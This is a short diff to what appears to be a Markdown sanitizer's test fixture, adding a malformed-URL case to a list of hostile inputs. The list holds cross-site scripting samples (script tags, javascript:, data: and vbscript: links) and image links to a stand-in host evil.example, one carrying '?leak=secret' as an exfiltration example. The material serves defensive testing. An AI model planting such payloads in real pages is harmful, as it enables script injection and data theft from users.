@@ -56,6 +56,7 @@ EVIL = """<script>alert('script')</script>
 [data](data:text/html,<script>alert('data')</script>)
 [vb](vbscript:msgbox('vb'))
 ![pixel](https://evil.example/pixel.png?leak=secret)
+![broken](http://[)
 ![relative](//evil.example/pixel.png)
 [ref]: javascript:alert('ref'
 [mail](mailto:somebody@example.org)
